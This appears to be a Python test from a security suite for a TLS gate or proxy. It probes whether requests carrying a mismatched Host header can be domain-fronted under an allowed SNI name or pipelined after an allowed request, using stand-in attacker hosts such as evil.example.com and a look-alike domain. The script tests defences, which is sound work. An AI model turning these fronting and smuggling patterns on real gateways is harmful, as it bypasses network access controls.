# SPDX-License-Identifier: Apache-2.0
# Trick: Host of another host in TLS that the gate opens, also after a good request
# Gain: domain fronting inside of what was judged by its server name
from trick import *

look_up("key.example.com"), look_up("paths.example.com")
outs = []
for host in ("evil.example.com", "paths.example.com", "api.example.com", "key.example.com:80", "key.example.com:8443", EVIL, "KEY.example.com.evil.org"):
    outs.append((host, over_tls(KEY, "key.example.com", request(host, "/denied", headers=["x-api-key: " + SENTINEL]), 0.3)))
# hosts that are allowed, each by itself
for host, path in (("api.example.com", "/x"), ("paths.example.com", "/ok/1")):
    outs.append((host, over_tls(KEY, "key.example.com", request(host, path), 0.3)))
for first in (request("key.example.com", "/first"), request("key.example.com", "/first", "POST", body=b"x" * 10)):
    out = over_tls(KEY, "key.example.com", first + request("evil.example.com", "/denied"), 0.4)
    if out.count(b"HTTP/1.1 200") > 1:
        escaped("the second request was answered")
any_answer("another host", outs)
